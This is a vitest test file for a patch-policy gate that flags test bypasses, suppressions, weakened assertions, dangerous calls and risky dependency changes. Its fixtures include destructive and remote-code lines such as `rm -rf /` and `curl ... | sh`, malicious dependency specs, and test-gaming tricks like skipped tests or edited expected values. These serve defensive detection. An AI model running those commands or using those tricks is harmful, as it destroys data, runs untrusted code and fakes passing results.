import { describe, expect, it } from "vitest";
import { evaluatePatch } from "../../../../src/policy/index.ts";
import { silencesFailingCheck } from "../../../../src/policy/rules/suppressions.ts";
import { addLines, modify, rulesOf, violationsOf } from "../helpers.ts";

const tests = { allowTestEdits: true };

describe("test-bypass", () => {
  it.each([
    ["tests/test_a.py", "@pytest.mark.skip(reason='later')", "pytest-skip"],
    ["tests/test_a.py", "@pytest.mark.skipif(sys.platform == 'linux', reason='x')", "pytest-skip"],
    ["tests/test_a.py", "@pytest.mark.xfail", "pytest-xfail"],
    ["tests/test_a.py", "    pytest.skip('nope')", "pytest-skip"],
    ["tests/test_a.py", "@unittest.skip('x')", "unittest-skip"],
    ["tests/test_a.py", "        self.skipTest('x')", "unittest-skip"],
    ["src/a.test.ts", "it.skip('adds', () => {", "js-skip"],
    ["src/a.test.ts", "describe.skip('suite', () => {", "js-skip"],
    ["src/a.test.ts", "test.todo('later')", "js-skip"],
    ["src/a.test.ts", "xit('adds', () => {", "js-skip"],
    ["src/a.test.ts", "xdescribe('s', () => {", "js-skip"],
    ["src/a.test.ts", "it.only('adds', () => {", "js-only"],
    ["src/a.test.ts", "describe.only('s', () => {", "js-only"],
    ["test/a.test.mjs", "test('x', { skip: true }, () => {})", "js-skip"],
    ["src/test/java/FooTest.java", "  @Disabled", "junit-disabled"],
    ["src/test/java/FooTest.java", "  @Ignore", "junit-disabled"],
    ["pkg/a_test.go", '\tt.Skip("flaky")', "go-skip"],
    ["tests/a.rs", "#[ignore]", "rust-ignore"],
    ["package.json", '    "test": "jest --passWithNoTests",', "pass-with-no-tests"],
    ["Makefile", "\tpytest || true", "exit-code-masking"],
    ["scripts/test.sh", "npm test || exit 0", "exit-code-masking"],
    ["scripts/test.sh", "exit 0", "exit-code-masking"],
    ["scripts/test.sh", "set +e", "exit-code-masking"],
    ["tox.ini", "commands = pytest --deselect tests/test_a.py::test_add", "deselect-tests"],
    ["tests/conftest.py", "os._exit(0)", "early-exit"],
    ["tests/test_a.py", "sys.exit(0)", "early-exit"],
  ])("%s: `%s` is %s", (path, line, id) => {
    const v = violationsOf(addLines(path, [line]), "test-bypass", tests);
    expect(v.map((x) => x.message.match(/\[([\w-]+)\]/)?.[1])).toContain(id);
    expect(v[0]!.line).toBe(2);
  });

  it("does not flag the same words in ordinary code", () => {
    for (const [path, line] of [
      ["src/a.ts", "const skip = items.filter((x) => x.only);"],
      ["src/a.ts", "const enabled = opts.enabled || true;"],
      ["src/app.py", "sys.exit(0)"],
      ["src/a.py", "def skip_whitespace(s): return s.strip()"],
    ] as const) {
      expect(violationsOf(addLines(path, [line]), "test-bypass")).toEqual([]);
    }
  });

  it("does not count a skip that only moved (re-indented)", () => {
    const patch = modify(
      "tests/test_a.py",
      "@pytest.mark.skip\ndef test_a():\n  pass\n",
      "  @pytest.mark.skip\ndef test_a():\n  pass\n",
    );
    expect(violationsOf(patch, "test-bypass", tests)).toEqual([]);
  });

  it("can allow one pattern id and be turned off", () => {
    const patch = addLines("tests/test_a.py", ["@pytest.mark.xfail(strict=True)"]);
    expect(violationsOf(patch, "test-bypass", { ...tests, testBypass: { allow: ["pytest-xfail"] } })).toEqual(
      [],
    );
    expect(violationsOf(patch, "test-bypass", { ...tests, testBypass: { enabled: false } })).toEqual([]);
  });
});

describe("suppressions", () => {
  it.each([
    ["src/a.ts", "// @ts-ignore", "ts-ignore"],
    ["src/a.ts", "  // @ts-expect-error wrong type", "ts-expect-error"],
    ["src/a.ts", "/* eslint-disable */", "eslint-disable"],
    ["src/a.ts", "foo(); // eslint-disable-line no-undef", "eslint-disable"],
    ["src/a.ts", "// eslint-disable-next-line", "eslint-disable"],
    ["src/a.py", "import os  # noqa", "noqa"],
    ["src/a.py", "x: int = 'a'  # type: ignore[assignment]", "type-ignore"],
    ["src/a.go", "x := 1 //nolint", "nolint"],
    ["src/a.py", "# pylint: disable=unused-import", "pylint-disable"],
    ["src/a.rs", "#[allow(dead_code)]", "rust-allow"],
    ["src/a.ts", "const x = y as any;", "any-cast"],
  ])("%s: `%s` is %s", (path, line, id) => {
    const v = violationsOf(addLines(path, [line]), "suppressions");
    expect(v.map((x) => x.message.match(/\[([\w-]+)\]/)?.[1])).toContain(id);
  });

  it("allows listed ids", () => {
    const patch = addLines("src/a.py", ["import os  # noqa: F401"]);
    expect(violationsOf(patch, "suppressions", { suppressions: { allow: ["noqa"] } })).toEqual([]);
  });

  describe("only the failing check it silences", () => {
    const gate = (path: string, line: string, failingCheck?: string) =>
      evaluatePatch(addLines(path, [line]), {}, failingCheck === undefined ? {} : { failingCheck });

    it.each([
      ["src/a.ts", "// @ts-expect-error: roots hold one kind of content", "tsc --build && node --test"],
      ["src/a.ts", "// @ts-ignore", "npm run build\ntsc -b\nvitest run"],
      ["src/a.ts", "const x = y as any;", "jest\nts-jest"],
      ["src/a.ts", "// eslint-disable-next-line", "xo && ava"],
      ["src/a.py", "import os  # noqa", "ruff check . && pytest"],
      ["src/a.py", "x = f()  # type: ignore", "python3 -m pytest\n--mypy"],
      ["src/a.ts", "/* c8 ignore next */", "c8 --check-coverage --100 node --test"],
      ["src/a.rs", "#[allow(dead_code)]", "cargo test"],
    ])("%s `%s` blocks when the failing check runs its tool (%s)", (path, line, check) => {
      const r = gate(path, line, check);
      expect(r.allowed).toBe(false);
      expect(r.violations.map((v) => v.rule)).toEqual(["suppressions"]);
    });

    it.each([
      [
        "src/a.ts",
        "// @ts-expect-error: roots hold one kind of content",
        "node --conditions development test/index.js",
      ],
      ["src/a.ts", "// eslint-disable-next-line no-param-reassign", "vitest run"],
      ["src/a.py", "import os  # noqa: F401", "python3 -m pytest -q"],
      ["src/a.py", "x = f()  # type: ignore", "python3 -m pytest -q"],
    ])("%s `%s` is a warning when the failing check (%s) runs no tool it silences", (path, line, check) => {
      const r = gate(path, line, check);
      expect(r.allowed).toBe(true);
      expect(r.violations).toEqual([]);
      expect(r.warnings?.map((w) => w.rule)).toEqual(["suppressions"]);
      expect(r.warnings?.[0]?.message).toMatch(
        /not blocked: the failing check \(`.+`\) runs no tool it silences/,
      );
    });

    it("blocks every suppression when the failing check is unknown (the gate called without it)", () => {
      const r = gate("src/a.ts", "// @ts-expect-error", undefined);
      expect(r.allowed).toBe(false);
      expect(r.warnings).toBeUndefined();
    });

    it("a suppression of a tool it cannot name (no entry) blocks whatever the check", () => {
      expect(silencesFailingCheck("not-a-known-id", "node --test")).toBe(true);
      expect(silencesFailingCheck("ts-expect-error", "node --test")).toBe(false);
      expect(silencesFailingCheck("ts-expect-error", "npx tsc --noEmit")).toBe(true);
    });
  });
});

describe("weakened-tests", () => {
  const file = "tests/test_calc.py";

  it("blocks an expected value edited to match (removed `== 3`, added `== 4`)", () => {
    const patch = modify(
      file,
      "def test_add():\n    assert add(1, 2) == 3\n",
      "def test_add():\n    assert add(1, 2) == 4\n",
    );
    const [v] = violationsOf(patch, "weakened-tests", tests);
    expect(v).toMatchObject({ file, line: 2 });
    expect(v!.message).toMatch(/changes an expected value.*== 3.*== 4/);
  });

  it("blocks expected values edited in JS too", () => {
    const patch = modify("src/a.test.ts", "expect(sum(1, 2)).toBe(3);\n", "expect(sum(1, 2)).toBe(-1);\n");
    expect(violationsOf(patch, "weakened-tests", tests)[0]!.message).toMatch(/expected value/);
  });

  it.each([
    "    assert True",
    "    assert 1 == 1",
    "    assert result == result",
    "    self.assertTrue(True)",
    "    self.assertEqual(x, x)",
  ])("blocks the tautology `%s`", (line) => {
    const patch = modify(file, "def test_a():\n    assert f() == 2\n", `def test_a():\n${line}\n`);
    expect(violationsOf(patch, "weakened-tests", tests)[0]!.message).toMatch(/cannot fail/);
  });

  it.each([
    "expect(true).toBe(true);",
    "expect(value).toEqual(value);",
    "assert.ok(true);",
    "assert.equal(a, a);",
  ])("blocks the JS tautology `%s`", (line) => {
    expect(violationsOf(addLines("src/a.test.ts", [line]), "weakened-tests", tests)[0]!.message).toMatch(
      /cannot fail/,
    );
  });

  it("blocks removed assertions", () => {
    const patch = modify(
      file,
      "def test_a():\n    x = f()\n    assert x == 2\n",
      "def test_a():\n    x = f()\n",
    );
    expect(violationsOf(patch, "weakened-tests", tests)[0]!.message).toMatch(/removes 1 assertion/);
    expect(
      violationsOf(patch, "weakened-tests", { ...tests, weakenedTests: { maxRemovedAssertions: 1 } }),
    ).toEqual([]);
  });

  it("blocks commenting an assertion out", () => {
    const patch = modify(
      file,
      "def test_a():\n    assert f() == 2\n",
      "def test_a():\n    # assert f() == 2\n    pass\n",
    );
    expect(violationsOf(patch, "weakened-tests", tests)[0]!.message).toMatch(/removes 1 assertion/);
  });

  it("blocks removed test cases", () => {
    const patch = modify(
      file,
      "def test_a():\n    pass\n\ndef test_b():\n    pass\n",
      "def test_a():\n    pass\n",
    );
    expect(violationsOf(patch, "weakened-tests", tests).map((v) => v.message)).toEqual([
      expect.stringMatching(/removes 1 test case/),
    ]);
  });

  it("blocks a strict matcher replaced by a loose one on the same subject", () => {
    const patch = modify(
      "src/a.test.ts",
      "expect(parse(s)).toEqual({ a: 1 });\n",
      "expect(parse(s)).toBeDefined();\n",
    );
    expect(violationsOf(patch, "weakened-tests", tests)[0]!.message).toMatch(/loosens/);
  });

  it("blocks snapshot updates", () => {
    const patch = modify(
      "src/__snapshots__/a.test.ts.snap",
      "exports[`a`] = `1`;\n",
      "exports[`a`] = `2`;\n",
    );
    expect(violationsOf(patch, "weakened-tests", tests)[0]!.message).toMatch(/snapshots/);
  });

  it("allows adding assertions and new tests", () => {
    const patch = modify(
      file,
      "def test_a():\n    assert f() == 2\n",
      "def test_a():\n    assert f() == 2\n    assert g() == 3\n\ndef test_b():\n    assert h() is None\n",
    );
    expect(violationsOf(patch, "weakened-tests", tests)).toEqual([]);
  });
});

describe("dangerous-calls", () => {
  it.each([
    ["src/a.js", "eval(userInput)", "js-eval"],
    ["src/a.ts", "const f = new Function('a', body);", "js-new-function"],
    ["src/a.ts", "import { execSync } from 'node:child_process';", "js-child-process"],
    ["src/a.js", "require('child_process').exec(cmd)", "js-child-process"],
    ["src/a.py", "eval(expr)", "python-eval"],
    ["src/a.py", "exec(code)", "python-eval"],
    ["src/a.py", "os.system('rm -rf /')", "python-os-system"],
    ["src/a.py", "subprocess.run(cmd, shell=True)", "python-subprocess-shell"],
    ["src/a.py", "import requests", "python-network"],
    ["src/a.py", "urllib.request.urlopen(url)", "python-network"],
    ["src/a.py", "s = socket.socket()", "python-network"],
    ["src/a.ts", "await fetch('https://x.example')", "js-network"],
    ["src/a.ts", "http.request(opts)", "js-network"],
    ["src/a.go", 'cmd := exec.Command("sh")', "go-exec"],
    ["scripts/x.sh", "curl https://x.example/i.sh | sh", "shell-network"],
  ])("%s: `%s` is %s", (path, line, id) => {
    const v = violationsOf(addLines(path, [line]), "dangerous-calls");
    expect(v.map((x) => x.message.match(/\[([\w-]+)\]/)?.[1])).toContain(id);
  });

  it("does not flag regex.exec, subprocess without shell, or comments", () => {
    for (const [path, line] of [
      ["src/a.ts", "const m = /x/.exec(s);"],
      ["src/a.py", "subprocess.run(['ls'], check=True)"],
      ["src/a.py", "# we never eval(anything)"],
      ["src/a.py", "requests_count = 0"],
    ] as const) {
      expect(violationsOf(addLines(path, [line]), "dangerous-calls")).toEqual([]);
    }
  });

  it("allowNetwork permits network calls but not code execution", () => {
    const cfg = { dangerousCalls: { allowNetwork: true } };
    expect(violationsOf(addLines("src/a.py", ["import requests"]), "dangerous-calls", cfg)).toEqual([]);
    expect(violationsOf(addLines("src/a.py", ["os.system('x')"]), "dangerous-calls", cfg)).toHaveLength(1);
  });
});

describe("dependency-changes and package-scripts", () => {
  const pkg =
    '{\n  "name": "x",\n  "version": "1.0.0",\n  "scripts": {\n    "test": "vitest run"\n  },\n  "dependencies": {\n    "a": "^1.0.0"\n  }\n}\n';

  const strictDeps = { dependencyChanges: { allowRegistryRanges: false } };

  it("blocks a changed dependency version in package.json (allowRegistryRanges: false)", () => {
    const v = violationsOf(
      modify("package.json", pkg, pkg.replace("^1.0.0", "^2.0.0")),
      "dependency-changes",
      strictDeps,
    );
    expect(v.map((x) => x.message)).toEqual([
      expect.stringMatching(/removes a line in `dependencies`/),
      expect.stringMatching(/adds a line in `dependencies`/),
    ]);
  });

  it("allows by default a registry dependency added, or given a new semver range, in package.json", () => {
    // A range change: the old entry removed and the same name re-added in the same map.
    expect(rulesOf(modify("package.json", pkg, pkg.replace("^1.0.0", "^2.0.0")))).toEqual([]);
    // A new registry dependency (the comma added to the line before is a range change of the same entry).
    const added = pkg.replace('"a": "^1.0.0"', '"a": "^1.0.0",\n    "@scope/b-c.d": "~3.1.0"');
    expect(rulesOf(modify("package.json", pkg, added))).toEqual([]);
    const dev = pkg.replace(
      '  "dependencies"',
      '  "devDependencies": {\n    "x": "1.0.0"\n  },\n  "dependencies"',
    );
    expect(rulesOf(modify("package.json", dev, dev.replace('"x": "1.0.0"', '"x": ">=1.2.0 <2"')))).toEqual(
      [],
    );
  });

  it.each([
    ["a git dependency", '"evil": "git+https://example.com/evil.git"'],
    ["a GitHub shorthand", '"evil": "someone/evil"'],
    ["a tarball URL", '"evil": "https://example.com/evil.tgz"'],
    ["a file dependency", '"evil": "file:../evil"'],
    ["an npm: alias", '"a2": "npm:evil@1.0.0"'],
    ["a dist-tag", '"evil": "latest"'],
    ["any version", '"evil": "*"'],
    ["a name npm refuses", '"Evil Pkg": "1.0.0"'],
  ])("keeps blocking %s added to dependencies", (_what, entry) => {
    const after = pkg.replace('"a": "^1.0.0"', `"a": "^1.0.0",\n    ${entry}`);
    const v = violationsOf(modify("package.json", pkg, after), "dependency-changes");
    expect(v.map((x) => x.message)).toEqual([expect.stringMatching(/^adds a line in `dependencies`: `\s*"/)]);
    expect(v[0]!.message).toContain(entry.split(":")[0]!);
  });

  it("keeps blocking a removed dependency, a registry range turned into a git spec, overrides and composer.json", () => {
    const removed = pkg.replace(',\n  "dependencies": {\n    "a": "^1.0.0"\n  }', "");
    expect(violationsOf(modify("package.json", pkg, removed), "dependency-changes").length).toBeGreaterThan(
      0,
    );
    const git = pkg.replace("^1.0.0", "github:someone/a#main");
    expect(
      violationsOf(modify("package.json", pkg, git), "dependency-changes").map((v) => v.message),
    ).toEqual([
      expect.stringMatching(/removes a line in `dependencies`/),
      expect.stringMatching(/adds a line in `dependencies`/),
    ]);
    const overrides = pkg.replace(
      '  "dependencies"',
      '  "overrides": {\n    "a": "1.0.0"\n  },\n  "dependencies"',
    );
    expect(
      violationsOf(
        modify("package.json", overrides, overrides.replace('"a": "1.0.0"', '"a": "2.0.0"')),
        "dependency-changes",
      ),
    ).toHaveLength(2);
    const composer = '{\n  "require": {\n    "a/b": "^1.0"\n  }\n}\n';
    expect(
      violationsOf(modify("composer.json", composer, composer.replace("^1.0", "^2.0")), "dependency-changes"),
    ).toHaveLength(2);
  });

  it("blocks changed scripts, and allows other package.json fields", () => {
    const v = violationsOf(
      modify("package.json", pkg, pkg.replace("vitest run", "vitest run || true")),
      "package-scripts",
    );
    expect(v.length).toBe(2);
    const version = modify("package.json", pkg, pkg.replace('"1.0.0"', '"1.0.1"'));
    expect(rulesOf(version)).toEqual([]);
  });

  it("blocks a version-like line whose section is not visible", () => {
    const big = `{\n  "dependencies": {\n${Array.from({ length: 20 }, (_, i) => `    "p${i}": "^1.0.${i}",`).join("\n")}\n    "last": "1.0.0"\n  }\n}\n`;
    const patch = modify("package.json", big, big.replace('"p15": "^1.0.15"', '"p15": "^9.9.9"'));
    expect(violationsOf(patch, "dependency-changes").length).toBe(2);
  });

  it("a version-like line of unknown place is left to dependency-changes only while that rule runs", () => {
    // `"test": "next"` deep in a long scripts map: the hunk shows no `"scripts": {`, and the value reads as a dist-tag.
    const scripts = `{\n  "scripts": {\n${Array.from({ length: 12 }, (_, i) => `    "s${i}": "node s${i}.js",`).join("\n")}\n    "test": "vitest run"\n  }\n}\n`;
    const patch = modify("package.json", scripts, scripts.replace('"test": "vitest run"', '"test": "next"'));
    expect(patch).not.toMatch(/"scripts": \{/);
    expect(violationsOf(patch, "dependency-changes")).not.toEqual([]);
    const off = { dependencyChanges: { enabled: false } };
    expect(violationsOf(patch, "package-scripts", off).map((v) => v.message)).toEqual([
      expect.stringMatching(/removes a line whose section is not visible/),
      expect.stringMatching(/adds a line whose section is not visible in the hunk \(it could be a script\)/),
    ]);
  });

  it("test-infrastructure likewise: a version-like `jest` line of unknown place is a dependency only while that rule runs", () => {
    const deps = `{\n  "devDependencies": {\n${Array.from({ length: 12 }, (_, i) => `    "d${i}": "^1.0.0",`).join("\n")}\n    "jest": "^29.0.0"\n  }\n}\n`;
    const patch = modify("package.json", deps, deps.replace('"^29.0.0"', '"^30.0.0"'));
    expect(patch).not.toMatch(/"devDependencies": \{/);
    expect(violationsOf(patch, "test-infrastructure")).toEqual([]);
    expect(violationsOf(patch, "dependency-changes")).not.toEqual([]);
    expect(violationsOf(patch, "test-infrastructure", { dependencyChanges: { enabled: false } })).not.toEqual(
      [],
    );
  });

  it("reads only the dependency maps: the package's own name is no dependency version (f14c item 4)", () => {
    // Names that read like versions (`x` is semver's wildcard, a leading digit, a dist-tag's word).
    for (const name of ["x", "3d-viewer", "next", "latest"]) {
      const renamed = modify("package.json", pkg, pkg.replace('"name": "x"', `"name": "${name}"`));
      expect(violationsOf(renamed, "dependency-changes")).toEqual([]);
      const back = pkg.replace('"name": "x"', `"name": "${name === "x" ? "y" : name}"`);
      expect(violationsOf(modify("package.json", back, pkg), "dependency-changes")).toEqual([]);
    }
    // A hunk that does not show the document's `{` is read against the base text the fix loop passes.
    const long = `{\n${Array.from({ length: 8 }, (_, i) => `  "k${i}": "v",`).join("\n")}\n  "name": "x",\n  "main": "1.js"\n}\n`;
    const hunk = modify(
      "package.json",
      long,
      long.replace('"name": "x"', '"name": "y"').replace('"1.js"', '"2.js"'),
    );
    expect(hunk).not.toMatch(/^ \{$/m);
    const withBase = evaluatePatch(hunk, {}, { sourceFiles: { "package.json": long } }).violations;
    expect(withBase.filter((v) => v.rule === "dependency-changes")).toEqual([]);
  });

  it("counter-examples: entries of the maps, and a version-like line whose place is unknown, stay refused", () => {
    // A git spec in a map whose opener sits above the hunk: the base text shows the map.
    const big = `{\n  "name": "x",\n  "optionalDependencies": {\n${Array.from({ length: 12 }, (_, i) => `    "p${i}": "^1.0.${i}",`).join("\n")}\n    "name": "1.0.0"\n  }\n}\n`;
    const git = modify(
      "package.json",
      big,
      big.replace('"name": "1.0.0"', '"name": "git+https://example.com/n.git"'),
    );
    const v = evaluatePatch(git, {}, { sourceFiles: { "package.json": big } }).violations;
    expect(v.filter((x) => x.rule === "dependency-changes").map((x) => x.message)).toEqual([
      expect.stringMatching(/removes a line in `optionalDependencies`/),
      expect.stringMatching(/adds a line in `optionalDependencies`/),
    ]);
    // Without the base text, the same hunk's place is unknown: still refused as a version.
    expect(violationsOf(git, "dependency-changes").length).toBe(2);
    // A dependency map written on the top-level line itself.
    const inline = modify(
      "package.json",
      pkg,
      pkg.replace('"name": "x",', '"name": "x", "dependencies": { "e": "git+https://example.com/e.git" },'),
    );
    expect(violationsOf(inline, "dependency-changes").length).toBeGreaterThan(0);
  });

  it("blocks pyproject dependencies and Cargo dependency tables, but not other tables", () => {
    const py =
      '[project]\nname = "x"\ndependencies = [\n  "requests>=2",\n]\n\n[tool.ruff]\nline-length = 100\n';
    expect(
      violationsOf(modify("pyproject.toml", py, py.replace(">=2", ">=3")), "dependency-changes"),
    ).toHaveLength(2);
    expect(
      violationsOf(modify("pyproject.toml", py, py.replace("100", "120")), "dependency-changes"),
    ).toEqual([]);
    const cargo = '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n';
    expect(
      violationsOf(modify("Cargo.toml", cargo, cargo.replace('"1"', '"2"')), "dependency-changes"),
    ).toHaveLength(2);
  });

  it("blocks any change to whole dependency files", () => {
    for (const p of ["requirements.txt", "requirements-dev.txt", "go.mod", "Gemfile"]) {
      expect(rulesOf(modify(p, "a\n", "b\n"))).toContain("dependency-changes");
    }
  });
});

describe("size-caps, deletions", () => {
  it("caps files and changed lines", () => {
    const patch = Array.from({ length: 3 }, (_, i) => modify(`src/f${i}.py`, "a\nb\n", "c\nd\n")).join("");
    expect(violationsOf(patch, "size-caps", { sizeCaps: { maxFiles: 2 } })[0]!.message).toMatch(
      /3 files; the limit is 2/,
    );
    expect(violationsOf(patch, "size-caps", { sizeCaps: { maxChangedLines: 10 } })[0]!.message).toMatch(
      /12 lines/,
    );
    expect(violationsOf(patch, "size-caps")).toEqual([]);
  });

  it("caps added line length", () => {
    const v = violationsOf(addLines("src/a.js", [`const x = "${"A".repeat(2000)}";`]), "size-caps");
    expect(v[0]!.message).toMatch(/characters long/);
  });

  it("blocks file deletions unless allowed, and large deleted blocks", () => {
    const del =
      "diff --git a/src/a.py b/src/a.py\ndeleted file mode 100644\nindex 1..0\n--- a/src/a.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n";
    expect(violationsOf(del, "deletions")).toHaveLength(1);
    expect(violationsOf(del, "deletions", { deletions: { allowFileDeletion: true } })).toEqual([]);
    const body = Array.from({ length: 40 }, (_, i) => `line${i}`).join("\n");
    const block = modify("src/b.py", `keep\n${body}\nend\n`, "keep\nend\n");
    expect(violationsOf(block, "deletions")[0]).toMatchObject({ line: 2 });
    const replaced = modify(
      "src/b.py",
      `keep\n${body}\nend\n`,
      `keep\n${body.replace(/line/g, "LINE")}\nend\n`,
    );
    expect(violationsOf(replaced, "deletions")).toEqual([]);
  });
});
